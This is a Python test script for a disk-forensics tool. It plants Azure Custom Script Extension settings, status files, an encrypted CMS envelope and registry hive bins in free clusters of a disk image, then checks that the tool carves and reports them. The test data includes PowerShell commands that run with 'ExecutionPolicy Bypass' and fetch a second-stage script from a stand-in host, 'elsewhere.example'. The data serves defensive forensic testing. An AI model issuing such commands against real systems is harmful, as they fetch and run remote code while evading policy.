#!/usr/bin/env python3
"""Settings, status reports, envelopes and bins of a hive, put into free clusters of the scenario `present` without anything that points at them.

What vouches: the builder's truth for the runs; the files themselves as The Sleuth Kit reads them off the volume, whose bytes are what is put
there; openssl, which makes an envelope and states its recipient's serial number; the hive on the volume, whose keys libregf reads.
"""
import json
import os
import shutil
import subprocess
import sys
import tempfile

from scenario import build, check, end

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from free_clusters import Volume  # noqa: E402

BUILDER, TRIMCARVE = sys.argv[1:3]


def examine(image, *options):
    run = subprocess.run([TRIMCARVE, "examine", image, "--json", "--free-space", *options], capture_output=True, text=True)
    check(run.returncode == 0, f"exit code {run.returncode}: {run.stderr.strip()}")
    return json.loads(run.stdout)


def runs_of(report):
    return report["targets"][0]["runs"]


def cited_at(report, sightings, where):
    """Which of these sightings lie at this offset of the disk? A status is the object in the array."""
    return [n for n in sightings if any(r["offset"] <= where + 1 < r["offset"] + r["length"] for r in report["sightings"][n]["ranges"])]


def without_sightings(value):
    if isinstance(value, dict):
        return {k: without_sightings(v) for k, v in value.items() if k != "sightings"}
    return [without_sightings(v) for v in value] if isinstance(value, list) else value


def settings_text(command, uris=(), blob=None, thumbprint=None):
    handler = {}
    if blob:
        handler = {"protectedSettingsCertThumbprint": thumbprint, "protectedSettings": blob}
    handler["publicSettings"] = {"fileUris": list(uris), "commandToExecute": command} if command else {}
    return json.dumps({"runtimeSettings": [{"handlerSettings": handler}]}).encode()


def envelope(folder):
    """A CMS envelope for a certificate of its own: its base64, serial number and length, as openssl has them."""
    at = os.path.join(folder, "cms")
    os.mkdir(at)
    openssl = lambda *a: subprocess.run(["openssl", *a], cwd=at, capture_output=True, text=True, check=True).stdout
    openssl("req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", "key", "-out", "cert", "-days", "9",
            "-subj", "/DC=Windows Azure CRP Certificate Generator")
    with open(os.path.join(at, "text"), "w") as f:
        f.write('{"commandToExecute":"powershell -File hidden.ps1"}')
    openssl("cms", "-encrypt", "-des3", "-binary", "-in", "text", "-outform", "DER", "-out", "der", "cert")
    serial = openssl("x509", "-noout", "-serial", "-in", "cert").strip().split("=")[1]
    return openssl("base64", "-A", "-in", "der").strip(), serial, os.path.getsize(os.path.join(at, "der"))


def check_settings(image, volume_offset, before, folder):
    volume = Volume(image, volume_offset)
    home = "/Packages/Plugins/Microsoft.Compute.CustomScriptExtension/1.10.20"
    first = volume.file(volume.entry_of(f"{home}/RuntimeSettings/0.settings"))
    second = volume.file(volume.entry_of(f"{home}/RuntimeSettings/1.settings"))
    status = volume.file(volume.entry_of(f"{home}/Status/0.status"))
    blob = json.loads(second)["runtimeSettings"][0]["handlerSettings"]["protectedSettings"]
    other_blob, serial, length = envelope(folder)
    new_command = "powershell -ExecutionPolicy Bypass -File stage-two.ps1 -Key 7"
    new = settings_text(new_command, ["https://elsewhere.example/stage-two.ps1"])
    places = {
        "0.settings": volume.put(first),
        "0.settings again": volume.put(first, into=512),
        "0.settings, its beginning lost": volume.put(first[first.index(b'"publicSettings"'):]),
        "1.settings": volume.put(second),
        "the envelope alone": volume.put(blob.encode()),
        "0.status": volume.put(status),
        "new": volume.put(new),
        "new, its end lost": volume.put(new[:new.index(b"stage-two.ps1 -Key") + 13]),
        "sealed for another": volume.put(settings_text(None, (), other_blob, "AB" * 20)),
    }
    after = examine(image)
    if any("no search for text" in (c["note"] or "") for c in after["coverage"]):
        print("SKIPPED: settings: this build has no Hyperscan")
        return
    known = {r["sequence"]: r for r in runs_of(before)}
    for r in runs_of(after):
        if r["sequence"] in known:
            changed = [k for k in r if without_sightings(r[k]) != without_sightings(known[r["sequence"]][k]) and k != "sightings"]
            check(not changed, f"run {r['sequence']} changes: {changed}")
    by_sequence = {r["sequence"]: r for r in runs_of(after)}
    for name, sequence in (("0.settings", "0"), ("0.settings, its beginning lost", "0"), ("1.settings", "1"), ("the envelope alone", "1"), ("0.status", "0")):
        run = by_sequence[sequence]
        cited = cited_at(after, run["sightings"], places[name])
        check(cited, f"{name}: run {sequence} does not cite it")
        check(all(after["sightings"][n]["integrity"] == "carved" for n in cited), f"{name}: not said to be carved")
    extra = [r for r in runs_of(after) if r["sequence"] not in known]
    check(len(extra) == 1, f"{len(extra)} runs more: {[(r['sequence'], r['command']) for r in extra]}")
    if extra:
        run = extra[0]
        check(not run["sequence"] and not run["version"] and run["started"] is None, f"guessed: {run['sequence']} {run['version']} {run['started']}")
        check(run["command"] == new_command and run["file_uris"] == ["https://elsewhere.example/stage-two.ps1"], f"{run['command']} {run['file_uris']}")
        check(cited_at(after, run["sightings"], places["new"]) and cited_at(after, run["sightings"], places["new, its end lost"]), "new: both places are cited")
        said = [f for f in after["findings"] if new_command in f["statement"]]
        check(len(said) == 1 and said[0]["grade"] == "inferred" and "sequence number and version are not known" in said[0]["statement"], f"finding: {said}")
    loose = [f for f in after["findings"] if "Sealed settings of an extension" in f["statement"]]
    check(len(loose) == 1 and serial in loose[0]["statement"] and f"{length} bytes" in loose[0]["statement"] and "AB" * 20 in loose[0]["statement"]
          and loose[0]["grade"] == "inferred" and cited_at(after, loose[0]["sightings"], places["sealed for another"]), f"envelope ({serial}, {length}): {loose}")
    check(after["targets"][0]["verdict"] == before["targets"][0]["verdict"], "the verdict changes")
    read = [w for w in after["witnesses"] if w["state"] == "carved" and w["kind"] == "settings"]
    check(len(read) == len(places) - 1, f"{len(read)} documents read of {len(places)}, of which one stands twice")


def keys_of(report, kind=None):
    """What the registry says of handlers."""
    return sorted((s["statement"]["handler"], s["statement"].get("version"), s["statement"]["time"]["time"], s["statement"].get("status"))
                  for s in report["sightings"] if s["source"] == "registry" and s["statement"].get("handler") and s["statement"]["event"].endswith("HandlerState")
                  and (kind is None or report["witnesses"][s["place"]["owner"]]["kind"] == kind))


def check_bins(image, volume_offset, before):
    """The bins of SOFTWARE side by side: beside the live hive they say nothing new; where it is gone, what it said."""
    volume = Volume(image, volume_offset)
    entry = volume.entry_of("/Windows/System32/config/SOFTWARE")
    hive = volume.file(entry)
    bins = hive[4096:]
    check(bins[:4] == b"hbin" and b"HandlerState" in bins, "SOFTWARE is no hive with the key")
    volume.put(bins)
    beside = examine(image)
    check(keys_of(before) and keys_of(beside) == keys_of(before), f"beside the hive: {keys_of(beside)}, before {keys_of(before)}")
    row = [c for c in beside["coverage"] if "without their hive's first page" in (c["note"] or "")]
    check(len(row) == 1 and "stand in other logs too" in row[0]["note"], f"coverage: {row}")
    volume.overwrite(entry, 0)
    alone_run = subprocess.run([TRIMCARVE, "examine", image, "--json", "--free-space"], capture_output=True, text=True)
    alone = json.loads(alone_run.stdout)
    check(keys_of(alone, "registry_bins") == keys_of(before), f"from the bins alone: {keys_of(alone, 'registry_bins')}, of the hive {keys_of(before)}")
    check(all(s["statement"]["carved"] for s in alone["sightings"]
              if s["source"] == "registry" and alone["witnesses"][s["place"]["owner"]]["kind"] == "registry_bins"), "not said to be carved")


def main():
    for tool in ("icat", "ifind", "istat", "openssl"):
        if not shutil.which(tool):
            print(f"SKIPPED: {tool} is not installed")
            return
    with tempfile.TemporaryDirectory(prefix="trimcarve-orphans-") as folder:
        image = os.path.join(folder, "disk.img")
        expected = build(BUILDER, "present", image, "--container", "raw")
        before = examine(image)
        check({r["sequence"] for r in runs_of(before)} == {r["sequence"] for r in expected["runs"]}, "the runs before")
        copy = os.path.join(folder, "copy.img")
        shutil.copy(image, copy)
        check_settings(copy, expected["volume_offset"], before, folder)
        shutil.copy(image, copy)
        check_bins(copy, expected["volume_offset"], before)
    end("orphans")


main()
